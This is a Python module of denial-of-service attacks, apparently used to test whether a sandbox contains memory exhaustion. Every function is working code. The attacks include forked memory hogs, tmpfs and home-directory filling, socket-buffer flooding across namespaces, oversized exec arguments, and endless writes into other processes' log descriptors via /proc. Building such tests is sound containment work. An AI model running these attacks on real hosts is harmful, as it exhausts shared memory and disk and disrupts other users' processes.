"""Ways to take memory of the host past the limit, through others than the agent's own processes."""

from __future__ import annotations

import ctypes
import os
import signal
import socket
import stat

from proctor.attacks.attack import attack

MB = 1 << 20
FOR_SEC = 25


def _apart(work: object) -> None:
    if os.fork() == 0:
        os.setsid()
        for fd in range(3):
            os.dup2(os.open("/dev/null", os.O_RDWR), fd)
        signal.alarm(FOR_SEC)
        try:
            work()  # type: ignore[operator]
        except (OSError, MemoryError):
            signal.pause()
        finally:
            os._exit(0)


@attack(timeout_sec=40)
def everything_at_once() -> str:
    """Take memory by allocation, files in memory, the disk, shared memory and the sockets' folder at once."""

    def allocate() -> None:
        kept = []
        for _ in range(100):
            kept.append(b"x" * (8 * MB))
        signal.pause()

    def unnamed() -> None:
        for _ in range(100):
            os.write(os.memfd_create("x"), b"x" * (8 * MB))
        signal.pause()

    def fill(folder: str) -> None:
        with open(f"{folder}/full", "wb", buffering=0) as file:
            for _ in range(100):
                file.write(b"x" * (8 * MB))
        signal.pause()

    for _ in range(3):
        _apart(allocate)
        _apart(unnamed)
    for folder in ("/tmp", "/dev/shm", os.environ["XDG_RUNTIME_DIR"], os.path.expanduser("~")):
        _apart(lambda folder=folder: fill(folder))
    return ""


@attack(timeout_sec=40)
def names_nobody_has() -> str:
    """Ask for two million files that are not there, each of which the kernel remembers."""
    for number in range(2_000_000):
        os.path.lexists(f"/tmp/none-{number:08}-{'x' * 200}")
        if number % 100_000 == 0 and os.times().elapsed < 0:
            break
    return ""


def _fill_sockets() -> None:
    kept = []
    for _ in range(400):
        pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        pair[0].setblocking(False)
        pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 16 * MB)
        kept.append(pair)
        try:
            while True:
                pair[0].send(b"x" * 100_000)
        except OSError:
            continue
    signal.pause()


@attack(timeout_sec=40)
def buffers_of_sockets() -> str:
    """Fill sockets that nobody reads, in many processes."""
    for _ in range(8):
        _apart(_fill_sockets)
    return ""


@attack(timeout_sec=40)
def buffers_in_other_networks() -> str:
    """Fill sockets that nobody reads, each process in a network of its own."""

    def work() -> None:
        ctypes.CDLL(None).unshare(0x10000000 | 0x40000000)
        _fill_sockets()

    for _ in range(8):
        _apart(work)
    return ""


@attack(timeout_sec=40)
def buffers_on_their_way() -> str:
    """Fill sockets, then send them through another and close them, so that no process has them."""

    def work() -> None:
        carrier, kept = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM), []
        for _ in range(400):
            sender, receiver = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
            sender.setblocking(False)
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 16 * MB)
            try:
                while True:
                    sender.send(b"x" * 100_000)
            except OSError:
                socket.send_fds(carrier[0], [b"x"], [sender.fileno(), receiver.fileno()])
                sender.close()
                receiver.close()
            kept.append(carrier)
        signal.pause()

    for _ in range(8):
        _apart(work)
    return ""


@attack(timeout_sec=40)
def large_arguments() -> str:
    """Start many programs with two megabytes of arguments each, which the kernel copies."""
    for _ in range(250):
        try:
            if os.fork() == 0:
                signal.alarm(FOR_SEC)
                os.execv("/bin/sleep", ["sleep", "1000", *["x" * 100_000] * 18])
        except OSError:
            break
    return ""


@attack(timeout_sec=40)
def output_nobody_reads() -> str:
    """Write to the logs of the desktop without end."""

    def work() -> None:
        for pid in os.listdir("/proc"):
            for fd in (1, 2):
                try:
                    log = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY)
                    while stat.S_ISREG(os.fstat(log).st_mode) and os.write(log, b"x" * MB):
                        continue
                except OSError:
                    continue
        signal.pause()

    _apart(work)
    return ""


@attack(timeout_sec=40)
def images_of_the_image() -> str:
    """Read every file of the image, so that all of it is kept in memory."""
    for folder, _, names in os.walk("/usr"):
        for name in names:
            try:
                with open(f"{folder}/{name}", "rb") as file:
                    while file.read(MB):
                        continue
            except OSError:
                continue
    return ""


@attack(timeout_sec=40)
def copies_of_the_image() -> str:
    """Touch every file of the image for writing, so that all of it is copied up to the disk in memory."""
    for folder, _, names in os.walk("/"):
        for name in names:
            try:
                os.close(os.open(f"{folder}/{name}", os.O_RDWR | os.O_NONBLOCK))
            except OSError:
                continue
    return ""
